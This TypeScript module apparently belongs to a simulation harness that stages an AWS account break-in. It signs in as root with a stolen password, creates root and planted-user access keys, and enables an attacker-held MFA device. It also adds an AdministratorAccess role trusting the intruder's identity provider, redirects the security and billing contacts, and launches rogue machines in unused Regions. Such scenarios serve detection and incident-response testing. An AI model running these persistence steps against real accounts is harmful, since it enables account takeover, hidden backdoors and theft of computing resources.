import { addOwnProvider, assumeByOwnProvider, openOwnProvider } from "../adversary/own-provider.ts";
import { launchMissing } from "../adversary/rogue-machines.ts";
import { credentialsFrom, type Aws, type Credentials } from "../kit/aws.ts";
import { signedIn } from "../kit/console.ts";
import type { Stage } from "../kit/stage.ts";
import type { Facts } from "./facts.ts";
import { KEY_PAIR, LAIR, makePassword, plantUser, signInPage, type Loot } from "./intruder.ts";

/** Signs in with the stolen password and makes the root user a key, to work with from then on. */
export async function signInAsRoot(stage: Stage): Promise<Credentials> {
  const session = signedIn(await signInPage(stage).signIn({ Root: true, Password: stage.rootPassword() }));
  const { AccessKey } = await stage.intruder(session, LAIR).iam.createAccessKey({});
  return credentialsFrom(AccessKey);
}

/** What the intruder did with the root user's key until somebody noticed. */
export async function breakIn(
  stage: Stage,
  facts: Omit<Facts, "robbedAt">,
  rootKey: Credentials,
): Promise<Loot> {
  const aws = stage.intruder(rootKey, LAIR);
  await aws.sts.getCallerIdentity({});
  await aws.iam.listUsers({});
  await aws.ec2.describeRegions({});
  const user = await plantUser(stage, aws, 0);
  const { AccessKey } = await aws.iam.createAccessKey({ UserName: facts.plantedKeyOf });
  const plantedLogin = await plantLogin(stage, aws, facts.plantedPasswordOf);
  const ownSession = await plantRole(stage, aws, facts.plantedRole);
  for (const AlternateContactType of Object.keys(facts.contacts) as ("BILLING" | "SECURITY")[])
    await aws.account.putAlternateContact({
      AlternateContactType,
      Name: "Account Services",
      Title: "Coordinator",
      EmailAddress: `${AlternateContactType.toLowerCase()}@account-notices.example`,
      PhoneNumber: "+1 202 555 0147",
    });
  await aws.ec2.createKeyPair({ KeyName: KEY_PAIR, KeyType: "ed25519" });
  for (const region of facts.rogueRegions) await settle(stage.intruder(rootKey, { ...LAIR, region }), region);
  return {
    rootKey,
    rootPassword: stage.rootPassword(),
    user,
    made: 1,
    ownSession,
    roleSession: await assumeByOwnProvider(stage, LAIR, ownSession, facts.plantedRole),
    plantedKey: credentialsFrom(AccessKey),
    plantedLogin,
  };
}

/** A console password for somebody who has none, with an MFA device of the intruder's: so it looks cared for. */
async function plantLogin(stage: Stage, { iam }: Aws, name: string): Promise<Loot["plantedLogin"]> {
  const password = makePassword(stage.chance);
  await iam.createLoginProfile({ UserName: name, Password: password, PasswordResetRequired: false });
  const { VirtualMFADevice } = await iam.createVirtualMFADevice({ VirtualMFADeviceName: `${name}-phone` });
  const seed = Buffer.from(VirtualMFADevice!.Base32StringSeed!).toString();
  const [now, next] = stage.mfaCodes(seed);
  await iam.enableMFADevice({
    UserName: name,
    SerialNumber: VirtualMFADevice!.SerialNumber,
    AuthenticationCode1: now,
    AuthenticationCode2: next,
  });
  return { name, password, seed };
}

/** A role with all rights that trusts the intruder's own identity provider. Answers a session there. */
async function plantRole(stage: Stage, aws: Aws, RoleName: string): Promise<string> {
  const Federated = await addOwnProvider(aws);
  await aws.iam.createRole({
    RoleName,
    AssumeRolePolicyDocument: JSON.stringify({
      Version: "2012-10-17",
      Statement: [{ Effect: "Allow", Principal: { Federated }, Action: "sts:AssumeRoleWithWebIdentity" }],
    }),
  });
  await aws.iam.attachRolePolicy({ RoleName, PolicyArn: "arn:aws:iam::aws:policy/AdministratorAccess" });
  return openOwnProvider(stage, LAIR);
}

/** A machine in a Region that nobody uses, a key pair to get in, and a volume for what it earns. */
async function settle(aws: Aws, region: string): Promise<void> {
  await aws.ec2.createKeyPair({ KeyName: KEY_PAIR, KeyType: "ed25519" });
  await launchMissing(aws, KEY_PAIR);
  await aws.ec2.createVolume({ AvailabilityZone: `${region}a`, Size: 100, VolumeType: "gp3" });
}
